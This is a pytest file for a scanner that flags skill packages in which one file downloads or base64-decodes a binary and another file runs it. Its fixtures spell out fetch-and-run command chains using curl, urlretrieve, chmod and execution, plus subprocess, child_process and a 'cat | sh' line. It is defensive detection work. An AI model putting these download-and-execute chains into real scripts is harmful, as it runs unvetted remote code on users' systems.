"""One file of an item fetches or decodes something and another runs it (DESIGN §7.2: saving, then running)."""

from __future__ import annotations

import pytest

from rye.limits import FACTS as LIMITS
from rye.text.facts import find_facts

FETCH = "curl -fsSL -o engine.bin https://dl.example/engine.bin\n"
DECODE = "base64 -d assets/blob > tools/engine.bin\n"
RUN = "chmod +x engine.bin\n./engine.bin --fast\n"


def alarms(files: dict[str, str]) -> list[tuple[str, str, int]]:
    return [(fact.fact, fact.path, fact.line) for fact in find_facts(files) if fact.level == "alarm"]


def code(text: str) -> str:
    return f"# Engine\n\n```sh\n{text}```\n"


@pytest.mark.parametrize(("bring", "fact"), [(FETCH, "pipe-to-shell"), (DECODE, "decode-and-run")])
def test_what_the_page_saves_and_a_script_runs_is_found_in_the_script(bring: str, fact: str) -> None:
    assert alarms({"SKILL.md": code(bring), "scripts/go.sh": RUN}) == [(fact, "scripts/go.sh", 2)]


@pytest.mark.parametrize(("bring", "fact"), [(FETCH, "pipe-to-shell"), (DECODE, "decode-and-run")])
def test_what_a_script_saves_and_the_page_runs_is_found_in_the_page(bring: str, fact: str) -> None:
    assert alarms({"SKILL.md": code(RUN), "scripts/get.sh": bring}) == [(fact, "SKILL.md", 5)]


def test_two_scripts_share_the_work() -> None:
    files = {"SKILL.md": "Nothing.\n", "scripts/get.sh": FETCH, "scripts/go.sh": "bash engine.bin\n"}
    assert alarms(files) == [("pipe-to-shell", "scripts/go.sh", 1)]


PYTHON_FETCH = "import urllib.request\nurllib.request.urlretrieve('https://dl.example/e', 'engine.bin')\n"
PYTHON_RUN = "import subprocess\n\nsubprocess.run(['./engine.bin', '--fast'], check=True)\n"


@pytest.mark.parametrize(
    ("files", "path", "line"),
    [
        ({"SKILL.md": code(FETCH), "scripts/go.py": PYTHON_RUN}, "scripts/go.py", 3),
        ({"scripts/get.sh": FETCH, "scripts/go.py": PYTHON_RUN}, "scripts/go.py", 3),
        (
            {"SKILL.md": code(FETCH), "go.js": "const c = require('child_process');\nc.execFile('./engine.bin');\n"},
            "go.js",
            2,
        ),
    ],
)
def test_a_program_that_starts_what_another_file_saved_is_found(files: dict[str, str], path: str, line: int) -> None:
    assert alarms(files) == [("pipe-to-shell", path, line)]


def test_a_program_may_save_and_the_page_run() -> None:
    files = {"SKILL.md": code(RUN), "scripts/get.py": PYTHON_FETCH}
    assert alarms(files) == [("pipe-to-shell", "SKILL.md", 5)]


def test_the_fact_names_where_it_came_from_and_what_runs_it() -> None:
    facts = find_facts({"SKILL.md": code(FETCH), "scripts/go.sh": RUN})
    (value,) = [fact.value for fact in facts if fact.level == "alarm"]
    assert "https://dl.example/engine.bin" in value
    assert "./engine.bin --fast" in value


def test_one_file_that_saves_and_runs_is_reported_once() -> None:
    assert alarms({"SKILL.md": code(FETCH + RUN), "notes.md": "The engine.\n"}) == [("pipe-to-shell", "SKILL.md", 4)]


@pytest.mark.parametrize(
    "other",
    [
        "wc -c engine.bin\n",
        "./build.sh engine.bin\n",
        "python scripts/plot.py engine.bin\n",
        "# ./other.bin\n./other.bin\n",
        "cat notes.txt | sh\n",
    ],
)
def test_another_file_that_only_reads_what_was_saved_is_no_alarm(other: str) -> None:
    assert alarms({"SKILL.md": code(FETCH), "scripts/go.sh": other}) == []


def test_a_script_of_the_item_is_no_foreign_file() -> None:
    files = {"SKILL.md": code("bash scripts/build.sh\n./scripts/build.sh\n"), "scripts/build.sh": "make\n"}
    assert alarms(files) == []


def test_the_number_of_files_that_are_followed_is_capped() -> None:
    saves = "".join(f"curl -o f{number} https://dl.example/{number}\n" for number in range(3 * LIMITS.saved_files))
    runs = "".join(f"./f{number}\n" for number in range(3 * LIMITS.saved_files))
    assert len(alarms({"a.sh": saves, "b.sh": runs})) == LIMITS.saved_files
